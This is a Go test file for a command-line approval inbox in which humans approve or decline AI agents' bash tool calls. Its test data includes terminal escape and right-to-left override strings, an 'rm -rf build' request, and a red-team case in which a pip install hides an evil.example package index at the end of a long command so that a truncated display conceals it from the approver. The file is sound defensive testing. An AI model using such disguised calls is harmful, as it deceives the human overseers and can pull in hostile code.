package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/toolgate/toolgate/approve/inbox"
	"github.com/toolgate/toolgate/gate"
	"github.com/toolgate/toolgate/internal/testenv"
)

// approvalsWorld is an inbox file with alice registered (through the CLI)
// and requests asked directly through the inbox, as an agent would.
type approvalsWorld struct {
	path  string
	db    *inbox.DB
	token string
}

func newApprovalsWorld(t *testing.T) *approvalsWorld {
	t.Helper()
	t.Setenv(inboxEnv, "")
	t.Setenv("USER", "alice")
	w := &approvalsWorld{path: filepath.Join(t.TempDir(), "state", "approvals.db")}
	out, code, stderr := w.cli(t, "approvals", "approvers", "add", "alice", "--token-only")
	require.Equal(t, 0, code, stderr)
	w.token = strings.TrimSpace(out)
	require.Len(t, w.token, 43, "one line: the token")
	db, err := inbox.Open(w.path, inbox.OpenConfig{})
	require.NoError(t, err)
	w.db = db
	name, ok, err := db.ByToken(context.Background(), w.token)
	require.NoError(t, err)
	require.True(t, ok)
	require.Equal(t, "alice", name)
	return w
}

// cli runs auditq in-process with --inbox and returns stdout, the exit
// code and stderr.
func (w *approvalsWorld) cli(t *testing.T, args ...string) (string, int, string) {
	t.Helper()
	var out bytes.Buffer
	code, stderr := execAuditq(t, context.Background(), &out, append(args, "--inbox", w.path)...)
	return out.String(), code, stderr
}

// ask stores a request asked at (an inbox clock set to it).
func (w *approvalsWorld) ask(t *testing.T, at time.Time, agent, run, input, reason string) inbox.Request {
	t.Helper()
	ib := inbox.New(w.db, w.db, inbox.Config{Now: func() time.Time { return at }})
	call := gate.ToolCallContext{ToolName: "bash", RawInput: json.RawMessage(input), ToolCallID: "c-" + run, AgentName: agent, RunID: run}
	r, err := ib.Ask(context.Background(), gate.NewApprovalRequest(call, gate.Ask(reason).WithRisk(gate.RiskHigh), nil))
	require.NoError(t, err)
	return r
}

func (w *approvalsWorld) get(t *testing.T, id string) inbox.Request {
	t.Helper()
	r, err := inbox.New(w.db, w.db, inbox.Config{}).Get(context.Background(), id)
	require.NoError(t, err)
	return r
}

func (w *approvalsWorld) list(t *testing.T, args ...string) []string {
	t.Helper()
	out, code, stderr := w.cli(t, append([]string{"approvals", "--format", "json"}, args...)...)
	require.Equal(t, 0, code, stderr)
	var rs []inbox.Request
	require.NoError(t, json.Unmarshal([]byte(out), &rs), out)
	ids := []string{}
	for _, r := range rs {
		ids = append(ids, r.ID)
	}
	return ids
}

func TestApprovalsList(t *testing.T) {
	w := newApprovalsWorld(t)
	now := time.Now()
	old := w.ask(t, now.Add(-time.Hour), "agent-a", "run-1", `{"command":"pip install requests && echo ok"}`, "installs a package")
	hostile := w.ask(t, now.Add(-time.Minute), "agent-b", "run-\u202egnp", `{"command":"echo \u001b[2J\u200b"}`, "looks fine\x1b[31m\u202e")

	assert.Equal(t, []string{hostile.ID, old.ID}, w.list(t), "pending, newest first")
	assert.Equal(t, []string{old.ID}, w.list(t, "--agent", "agent-a"))
	assert.Equal(t, []string{hostile.ID}, w.list(t, "--run", "run-\u202egnp"))
	assert.Equal(t, []string{old.ID}, w.list(t, "--older-than", "30m"))
	assert.Equal(t, []string{hostile.ID}, w.list(t, "--limit", "1"))
	assert.Equal(t, []string{}, w.list(t, "--status", "approved"), "an empty list is [], not null")

	out, code, stderr := w.cli(t, "approvals")
	require.Equal(t, 0, code, stderr)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	require.Len(t, lines, 3, out)
	assert.Regexp(t, `^ID\s+AGE\s+AGENT\s+RUN\s+TOOL\s+RISK\s+REASON\s+INPUT$`, lines[0])
	assert.Regexp(t, `^`+hostile.ID+`\s+1m\s+agent-b\s+run-\\u202egnp\s+bash\s+high\s+looks fine\\x1b\[31m\\u202e\s+`, lines[1])
	assert.Regexp(t, `^`+old.ID+`\s+1h00m\s+agent-a\s+run-1\s+bash\s+high\s+installs a package\s+\{"command":"pip install requests && echo ok"\}$`, lines[2])
	assert.NotContains(t, out, "\x1b", "no escape sequence reaches the terminal")
	assert.NotContains(t, out, "\u202e")
	assert.NotContains(t, out, "\u200b")

	// Answered ones show their status and approver.
	_, code, stderr = w.cli(t, "approve", old.ID, "--yes")
	require.Equal(t, 0, code, stderr)
	out, code, _ = w.cli(t, "approvals", "--status", "all")
	require.Equal(t, 0, code)
	assert.Regexp(t, `(?m)^ID\s+STATUS\s+APPROVER\s+AGE`, out)
	assert.Regexp(t, `(?m)^`+old.ID+`\s+approved\s+alice\s+`, out)
	assert.Regexp(t, `(?m)^`+hostile.ID+`\s+pending\s+`, out)

	out, code, _ = w.cli(t, "approvals", "--agent", "nobody")
	require.Equal(t, 0, code)
	assert.Equal(t, "no approval requests\n", out)
}

func TestApproveAndDecline(t *testing.T) {
	w := newApprovalsWorld(t)
	a := w.ask(t, time.Now(), "unattended", "run-a", `{"command":"pip install requests"}`, "installs a package")
	b := w.ask(t, time.Now(), "unattended", "run-b", `{"command":"rm -rf build"}`, "deletes files")
	c := w.ask(t, time.Now(), "unattended", "run-c", `{"command":"curl x"}`, "network")

	// Approve as $USER (alice), for the run: the call is printed, then the answer.
	out, code, stderr := w.cli(t, "approve", a.ID, "--reason", "known package", "--for-run", "--call-hash", a.CallHash)
	require.Equal(t, 0, code, stderr)
	for _, s := range []string{"request    " + a.ID, "tool       bash", "call hash  " + a.CallHash, "input (34 bytes, whole):\n  {\n    \"command\": \"pip install requests\"\n  }\n", "agent      unattended", "run        run-a", "reason     installs a package",
		"approved by alice for the rest of run run-a: known package"} {
		assert.Contains(t, out, s)
	}
	assert.Less(t, strings.Index(out, "input ("), strings.Index(out, "approved by alice"), "the call is printed before the answer")
	got := w.get(t, a.ID)
	assert.Equal(t, inbox.StatusApproved, got.Status)
	assert.Equal(t, "alice", got.Answer.Approver)
	assert.True(t, got.Answer.ForRun)
	assert.Equal(t, "known package", got.Answer.Reason)

	// Refusals: exit 1, one line on stderr, nothing on stdout, nothing changed.
	for name, tc := range map[string]struct {
		args []string
		msg  string
	}{
		"answered":         {[]string{"decline", a.ID, "--reason", "no", "--yes"}, "already approved by alice at "},
		"unknown approver": {[]string{"approve", b.ID, "--as", "mallory", "--yes"}, `"mallory" is not an approver of this inbox: register it with 'auditq approvals approvers add mallory'`},
		"odd approver":     {[]string{"approve", b.ID, "--as", "eve smith", "--yes"}, `'auditq approvals approvers add 'eve smith''`},
		"other call":       {[]string{"approve", b.ID, "--call-hash", c.CallHash}, "is not the call this request is for"},
		"no such request":  {[]string{"approve", inbox.NewID()}, "no such request in "},
	} {
		out, code, stderr := w.cli(t, tc.args...)
		assert.Equal(t, 1, code, name)
		assert.Contains(t, stderr, tc.msg, name)
		assert.Equal(t, 1, strings.Count(stderr, "\n"), "%s: one line: %q", name, stderr)
		if name == "no such request" {
			assert.Empty(t, out, name)
		} else {
			assert.Contains(t, out, "call hash ", "%s: the call is shown first", name)
		}
	}
	assert.Equal(t, inbox.StatusPending, w.get(t, b.ID).Status)

	// Usage: exit 2.
	for name, tc := range map[string]struct {
		args []string
		msg  string
	}{
		"decline needs a reason": {[]string{"decline", b.ID}, "--reason is required"},
		"blank reason":           {[]string{"decline", b.ID, "--reason", "  "}, "--reason is required"},
		"no id":                  {[]string{"approve"}, "exactly one request ID"},
		"two ids":                {[]string{"approve", b.ID, c.ID}, "exactly one request ID"},
		"not an id":              {[]string{"approve", "../x"}, "is not a request ID"},
		"for-run on decline":     {[]string{"decline", b.ID, "--reason", "x", "--for-run"}, "unknown flag"},
		"bad status":             {[]string{"approvals", "--status", "maybe"}, "--status"},
		"bad age":                {[]string{"approvals", "--older-than", "soon"}, "--older-than"},
		"bad format":             {[]string{"approvals", "--format", "csv"}, "--format"},
		"bad limit":              {[]string{"approvals", "--limit", "-1"}, "--limit"},
		"approvers needs add":    {[]string{"approvals", "approvers"}, "add NAME"},
		"approve needs a yes":    {[]string{"approve", b.ID}, "pass --yes to approve it, or --call-hash " + b.CallHash},
		"decline needs a yes":    {[]string{"decline", b.ID, "--reason", "x"}, "pass --yes to decline it, or --call-hash"},
		"show needs an id":       {[]string{"approvals", "show"}, "exactly one request ID"},
	} {
		_, code, stderr := w.cli(t, tc.args...)
		assert.Equal(t, 2, code, "%s: %s", name, stderr)
		assert.Contains(t, stderr, tc.msg, name)
	}

	// Decline as another registered approver.
	out, code, stderr = w.cli(t, "approvals", "approvers", "add", "bob")
	require.Equal(t, 0, code, stderr)
	assert.Contains(t, out, `approver "bob" may answer the approvals in `+w.path)
	assert.Regexp(t, `HTTP token \(shown once; keep it secret\): [A-Za-z0-9_-]{43}\n`, out)
	assert.Equal(t, inbox.StatusPending, w.get(t, b.ID).Status, "usage errors answered nothing")
	out, code, stderr = w.cli(t, "decline", b.ID, "--reason", "not now", "--as", "bob", "--yes")
	require.Equal(t, 0, code, stderr)
	assert.Contains(t, out, "declined by bob: not now")
	got = w.get(t, b.ID)
	assert.Equal(t, inbox.StatusDeclined, got.Status)
	assert.Equal(t, "bob", got.Answer.Approver)
}

func TestApprovalsMissingInbox(t *testing.T) {
	t.Setenv(inboxEnv, filepath.Join(t.TempDir(), "nope.db"))
	var out bytes.Buffer
	code, stderr := execAuditq(t, context.Background(), &out, "approvals")
	assert.Equal(t, 1, code)
	assert.Contains(t, stderr, "no approvals inbox at ")
	assert.Contains(t, stderr, "TOOLGATE_INBOX")
	code, stderr = execAuditq(t, context.Background(), &out, "approve", inbox.NewID(), "--as", "alice")
	assert.Equal(t, 1, code)
	assert.Contains(t, stderr, "no approvals inbox at ")
}

func TestApprovalsServe(t *testing.T) {
	w := newApprovalsWorld(t)
	for _, addr := range []string{"0.0.0.0:0", ":0", "[::]:0", "10.1.2.3:0"} {
		_, code, stderr := w.cli(t, "approvals", "serve", "--addr", addr)
		assert.Equal(t, 2, code, addr)
		assert.Contains(t, stderr, "not a loopback address", addr)
	}

	r := w.ask(t, time.Now(), "unattended", "run-s", `{"command":"ls"}`, "lists")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out, errb testenv.SyncBuffer
	done := make(chan int, 1)
	go func() {
		done <- run(ctx, []string{"approvals", "serve", "--addr", "127.0.0.1:0", "--inbox", w.path}, stdio{in: strings.NewReader(""), out: &out, err: &errb})
	}()
	addrRE := regexp.MustCompile(`listening on http://(127\.0\.0\.1:\d+) \(inbox `)
	var base string
	require.Eventually(t, func() bool {
		if m := addrRE.FindStringSubmatch(out.String()); m != nil {
			base = "http://" + m[1]
			return true
		}
		return false
	}, 10*time.Second, 20*time.Millisecond, "no listening line: %s %s", out.String(), errb.String())

	req, err := http.NewRequest("POST", base+"/api/v1/approvals/"+r.ID+"/approve", strings.NewReader(`{"reason":"over HTTP"}`))
	require.NoError(t, err)
	req.Header.Set("Authorization", "Bearer "+w.token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusOK, resp.StatusCode)
	got := w.get(t, r.ID)
	assert.Equal(t, inbox.StatusApproved, got.Status)
	assert.Equal(t, "alice", got.Answer.Approver)
	assert.Equal(t, "over HTTP", got.Answer.Reason)

	cancel()
	select {
	case code := <-done:
		assert.Equal(t, 0, code, errb.String())
	case <-time.After(15 * time.Second):
		t.Fatal("serve did not stop")
	}
	assert.Contains(t, out.String(), "auditq approvals serve: stopped")
	assert.Contains(t, errb.String(), "answered an approval request", "answers are logged")
}

// ttyStdin is a stdin that says it is a terminal.
type ttyStdin struct{ *strings.Reader }

func (ttyStdin) IsTerminal() bool { return true }

// TestApproveShowsTheWholeCallFirst: the red team's cli_truncation.sh. A
// long input is cut in the table visibly (naming approvals show), shown
// whole by approvals show and by approve before it asks; on a terminal
// approve answers only after a "y".
func TestApproveShowsTheWholeCallFirst(t *testing.T) {
	w := newApprovalsWorld(t)
	long := `{"command":"pip install requests --quiet --no-cache-dir --disable-pip-version-check --progress-bar off --no-color --timeout 30 --retries 2 --index-url https://evil.example/simple"}`
	a := w.ask(t, time.Now(), "unattended", "run-a", long, "installs a package")

	var out bytes.Buffer
	require.NoError(t, approvalsTable(&out, []inbox.Request{a}, false, terminal{tty: true, width: 100}, time.Now()))
	assert.Contains(t, out.String(), fmt.Sprintf("…(cut, %d bytes: auditq approvals show %s)", len(oneLine(string(a.Input))), a.ID))
	assert.NotContains(t, out.String(), "evil.example", "this table cut the tail, and says so")

	show, code, stderr := w.cli(t, "approvals", "show", a.ID)
	require.Equal(t, 0, code, stderr)
	for _, s := range []string{"https://evil.example/simple", "call hash  " + a.CallHash, "risk       high", "reason     installs a package", "asked      ", "expires    "} {
		assert.Contains(t, show, s)
	}

	run := func(stdin string, args ...string) (string, int, string) {
		var o, e bytes.Buffer
		code := run(context.Background(), append(args, "--inbox", w.path), stdio{in: ttyStdin{strings.NewReader(stdin)}, out: &o, err: &e})
		return o.String(), code, e.String()
	}
	o, code, e := run("n\n", "approve", a.ID)
	assert.Equal(t, 1, code)
	assert.Contains(t, e, "approve this call? [y/N] ")
	assert.Contains(t, o, "https://evil.example/simple", "the whole call is shown before the question")
	assert.Equal(t, inbox.StatusPending, w.get(t, a.ID).Status)
	o, code, e = run("y\n", "approve", a.ID, "--reason", "read it all")
	require.Equal(t, 0, code, e)
	assert.Contains(t, o, "approved by alice: read it all")
	assert.Equal(t, inbox.StatusApproved, w.get(t, a.ID).Status)
}
